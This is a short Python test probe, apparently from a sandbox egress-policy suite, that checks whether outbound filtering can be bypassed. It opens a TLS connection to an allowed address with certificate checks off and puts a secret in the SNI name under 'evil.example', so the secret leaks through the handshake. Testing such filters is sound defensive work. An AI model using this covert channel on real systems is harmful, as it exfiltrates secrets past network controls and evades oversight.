# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: asyncio's TLS, which has its greeting made in memory, names another server at an allowed
#   name's address
# proof: word
# needs: resolver
import asyncio
import ssl

from attack import SECRET, at_allowed, attempt


async def go(place):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        await asyncio.wait_for(
            asyncio.open_connection(*place, ssl=context, server_hostname=SECRET + ".evil.example"),
            1,
        )
    except asyncio.TimeoutError:
        pass


@attempt
def greet():
    return at_allowed(lambda place: asyncio.run(go(place)), first=False)
